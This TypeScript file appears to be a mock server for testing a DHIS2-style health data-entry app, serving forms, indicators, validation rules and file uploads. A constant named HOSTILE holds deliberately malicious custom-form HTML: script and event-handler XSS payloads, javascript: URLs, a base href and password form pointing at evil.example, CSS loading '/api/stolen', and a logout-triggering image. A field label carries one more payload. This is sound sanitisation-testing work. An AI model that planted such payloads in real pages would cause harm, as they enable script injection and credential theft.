/** Forms of every kind, and what belongs to them; the matron sees them beside the country's own. */
import type { Answer } from './answer.ts'
import { message } from './answer.ts'
import { element, METADATA, section, set } from './country.ts'
import type { Limit, Store } from './values.ts'
import { readContext, readValues } from './values.ts'

const WIDE = Array.from({ length: 75 }, (_, n) => element(`Wide${String(n).padStart(7, '0')}`, `Diagnosis ${n + 1}`, 'INTEGER_ZERO_OR_POSITIVE', 'ComboAgeSex'))

const KINDS = [
  element('KindName001', 'Remarks <img src=x onerror="window.broken = 9">', 'TEXT'),
  element('KindLetter1', 'Grade', 'LETTER'),
  element('KindPhone01', 'Telephone', 'PHONE_NUMBER'),
  element('KindEmail01', 'E-mail', 'EMAIL'),
  element('KindUrl0001', 'Web page', 'URL'),
  element('KindUser001', 'Account', 'USERNAME'),
  element('KindPlace01', 'Position', 'COORDINATE'),
  element('KindShape01', 'Outline', 'GEOJSON'),
  element('KindUnit001', 'Referral clinic', 'ORGANISATION_UNIT'),
  element('KindFile001', 'Signed form', 'FILE_RESOURCE'),
  element('KindTime001', 'Opening hour', 'TIME'),
  element('KindStamp01', 'Time of inspection', 'DATETIME'),
]

const indicator = (id: string, displayName: string, numerator: string, denominator: string, factor: number) => ({
  id,
  displayName,
  numerator,
  denominator,
  explodedNumerator: numerator,
  explodedDenominator: denominator,
  indicatorType: { factor },
  decimals: 1,
})

const ids = (elements: { id: string }[]) => elements.map(({ id }) => id)

const FORMS = {
  ...METADATA,
  indicators: [
    indicator('PositivRate', 'Malaria test positivity', '#{MalariaConf}', '#{MalariaSusp}', 100),
    indicator('DailyVisits', 'Visits a day', '#{Attendance1} * C{ShiftFactor}', '[days]', 1),
    indicator('BeyondForm1', 'Deaths elsewhere', '#{NotInAnyForm}', '1', 1),
  ],
  dataElements: [...METADATA.dataElements, ...WIDE, ...KINDS],
  dataSets: [
    ...METADATA.dataSets,
    set('WardSet0001', 'Ward report', 'Monthly', ['MalariaSusp', 'MalariaConf', 'Attendance1', 'StockDays01'], {
      formType: 'SECTION',
      indicators: ['PositivRate', 'DailyVisits', 'BeyondForm1'],
      compulsoryDataElementOperands: [{ dataElement: { id: 'Attendance1' }, categoryOptionCombo: { id: 'PlainOption' } }],
      compulsoryFieldsCompleteOnly: true,
      sections: [
        section('SectionWar1', 'Malaria', 1, ['MalariaSusp', 'MalariaConf'], { showRowTotals: true, showColumnTotals: true, indicators: ['PositivRate'] }),
        section('SectionWar2', 'Visits', 2, ['Attendance1', 'StockDays01'], { displayOptions: JSON.stringify({ beforeSectionText: 'Count persons, not visits' }) }),
      ],
    }),
    set('CustomSet01', 'Form of our own', 'Monthly', ['MalariaConf', 'Attendance1', 'HasPower001'], {
      formType: 'CUSTOM',
      dataEntryForm: { id: 'CustomForm1' },
      indicators: ['DailyVisits'],
    }),
    set('TabsSet0001', 'Hospital report', 'Monthly', ['MalariaSusp', 'MalariaConf', 'Attendance1', 'StockDays01'], {
      formType: 'SECTION',
      renderAsTabs: true,
      fieldCombinationRequired: true,
      displayOptions: JSON.stringify({ tabsDirection: 'vertical', customText: { header: 'Form 101', subheader: 'New cases only' } }),
      sections: [
        section('SectionTab1', 'Malaria', 1, ['MalariaSusp', 'MalariaConf'], { showColumnTotals: true, displayOptions: JSON.stringify({ pivotMode: 'pivot' }) }),
        section('SectionTab2', 'Visits', 2, ['Attendance1', 'StockDays01']),
      ],
    }),
    set('MovedSet001', 'Age among the rows', 'Monthly', ['MalariaSusp', 'MalariaConf'], {
      formType: 'SECTION',
      sections: [
        section('SectionMov1', 'Malaria', 1, ['MalariaSusp', 'MalariaConf'], {
          showRowTotals: true,
          showColumnTotals: true,
          displayOptions: JSON.stringify({ pivotMode: 'move_categories', pivotedCategory: 'CategoryAge' }),
        }),
      ],
    }),
    set('WideSet0001', 'Three hundred fields', 'Monthly', ids(WIDE)),
    set('KindsSet001', 'Every kind of value', 'Monthly', ids(KINDS)),
  ],
}

/** What somebody with the right to design forms, and bad intent, could have written. */
const HOSTILE = `
<style>.big { color: #888; font-style: italic; } } body { display: none } .x { background: url(/api/stolen) } @import "/api/stolen.css";</style>
<h3 class="big" onclick="window.broken = 1">Month of <img src="x" onerror="window.broken = 2"> the ward</h3>
<script>window.broken = 3</script>
<svg onload="window.broken = 4"><script>window.broken = 5</script></svg>
<iframe src="javascript:parent.broken = 6"></iframe><object data="/api/stolen"></object><base href="https://evil.example/">
<img src="/dhis-web-commons-security/logout.action"><div style="position: fixed; inset: 0; background: url(/api/stolen)">cover</div>
<a href="javascript:window.broken = 7" id="content">a link</a> <form action="https://evil.example/"><input name="password" value="type it here"></form>
<table>
  <tr><th></th><th>Girls</th><th>Boys</th></tr>
  <tr><td>Confirmed</td>
    <td><input id="MalariaConf-YoungFemale-val" value="" onfocus="window.broken = 8" autofocus/></td><td><input id="MalariaConf-YoungMale01-val"/></td></tr>
  <tr><td>All</td><td colspan="2"><input dataelementid="MalariaConf" class="dataelementtotal" readonly/></td></tr>
  <tr><td>Visits</td><td><input id="Attendance1-PlainOption-val" name="entryfield" class="entryfield"/><span id="Attendance1-dataelement" style="display:none">Hidden name</span></td>
    <td><input indicatorid="DailyVisits" class="indicator" readonly/></td></tr>
  <tr><td>Power</td><td><label><input type="radio" name="HasPower001-PlainOption-val" id="HasPower001-PlainOption-val" value="true">Yes</label>
    <label><input type="radio" name="HasPower001-PlainOption-val" id="HasPower001-PlainOption-val" value="false">No</label></td>
    <td><input id="NotInTheSet-PlainOption-val"/></td></tr>
</table>`

const side = (expression: string, displayDescription: string) => ({ expression, displayDescription, missingValueStrategy: 'SKIP_IF_ALL_VALUES_MISSING', slidingWindow: false })
const RULES = [
  {
    id: 'RuleConfirm',
    displayName: 'Confirmed within suspected',
    displayInstruction: 'Confirmed cases cannot exceed suspected ones',
    operator: 'less_than_or_equal_to',
    periodType: 'Monthly',
    leftSide: side('#{MalariaConf}', 'Confirmed'),
    rightSide: side('#{MalariaSusp}', 'Suspected'),
  },
]

const files = new Map<string, string>()

export function readForms(method: string, path: string, query: URLSearchParams, values: Store, body: unknown): Answer | undefined {
  if (method === 'POST' && path === 'dataValues/file') return takeFile(values, String(body))
  switch (path) {
    case 'dataEntry/metadata':
      return { status: 200, body: FORMS }
    case 'dataEntry/customForms/CustomSet01':
      return { status: 200, body: { id: 'CustomForm1', dataSetId: 'CustomSet01', form: HOSTILE } }
    case 'dataEntry/dataValues':
      return withLimits(readValues(values, query), values, query.get('ou') ?? '')
    case 'dataEntry/minMaxValues':
      return changeLimit(method, query, values, body as Limit & { orgUnit: string })
    case 'dataEntry/dataValueContext':
      return withHistory(readContext(values, query))
    case 'constants':
      return { status: 200, body: { constants: [{ id: 'ShiftFactor', value: 2 }] } }
    case 'validationRules':
      return { status: 200, body: { validationRules: query.get('dataSet') === 'WardSet0001' ? RULES : [] } }
    default:
      if (path.startsWith('validation/dataSet/')) return judge(values, query)
      if (path.startsWith('fileResources/')) return { status: 200, body: { name: files.get(path.slice('fileResources/'.length)) } }
      return undefined
  }
}

function withLimits(answer: Answer, { limits }: Store, unit: string): Answer {
  const usual = new Map([[`${unit}|Attendance1|PlainOption`, { dataElement: 'Attendance1', categoryOptionCombo: 'PlainOption', minValue: 100, maxValue: 200 }], ...limits])
  const minMaxValues = [...usual].filter(([key, { maxValue }]) => key.startsWith(unit) && maxValue > -Infinity).map(([, limit]) => limit)
  return { ...answer, body: { ...(answer.body as object), minMaxValues } }
}

function changeLimit(method: string, query: URLSearchParams, { limits }: Store, sent: Limit & { orgUnit: string }): Answer {
  const [unit, dataElement, categoryOptionCombo] = method === 'DELETE' ? ['ou', 'de', 'co'].map((name) => query.get(name) ?? '') : [sent.orgUnit, sent.dataElement, sent.categoryOptionCombo]
  if (!unit || !dataElement || !categoryOptionCombo) return message(400, 'The field is not named')
  const none = { minValue: -Infinity, maxValue: -Infinity }
  limits.set([unit, dataElement, categoryOptionCombo].join('|'), { ...(method === 'DELETE' ? none : sent), dataElement, categoryOptionCombo })
  return { status: method === 'DELETE' ? 204 : 200 }
}

function withHistory(answer: Answer): Answer {
  const history = ['202510', '202511', '202512'].map((period, n) => ({ period, value: String(120 + n * 15) }))
  return { ...answer, body: { ...(answer.body as object), history } }
}

/** The server also knows a rule that looks at other periods, and minds 13 visits. */
function judge(values: Store, query: URLSearchParams): Answer {
  const at = (cell: string) => values.values.get(`${query.get('ou') ?? ''}|${query.get('pe') ?? ''}|PlainOption|${cell}`)?.value
  const surge = at('Attendance1|PlainOption') === '13'
  const violation = { validationRule: { id: 'RuleSurge01', displayName: 'Half of last month' }, leftsideValue: 13, rightsideValue: 130 }
  return { status: 200, body: { validationRuleViolations: surge ? [violation] : [], commentRequiredViolations: [] } }
}

/** A file, and the value that names it, as a browser sends them. */
function takeFile({ values }: Store, body: string): Answer {
  const field = (name: string) => new RegExp(`name="${name}"\\r\\n\\r\\n([^\\r]*)`).exec(body)?.[1] ?? ''
  const name = /filename="([^"]*)"/.exec(body)?.[1] ?? ''
  if (!name.endsWith('.pdf')) return message(409, 'Only forms as PDF are taken here')
  const id = `File${String(files.size + 1).padStart(7, '0')}`
  files.set(id, name)
  const [dataElement, categoryOptionCombo] = [field('de'), field('co')]
  values.set([field('ou'), field('pe'), 'PlainOption', dataElement, categoryOptionCombo].join('|'), { dataElement, categoryOptionCombo, value: id })
  return { status: 202, body: { status: 'OK', response: { responseType: 'FileResource', fileResource: { id, name } } } }
}
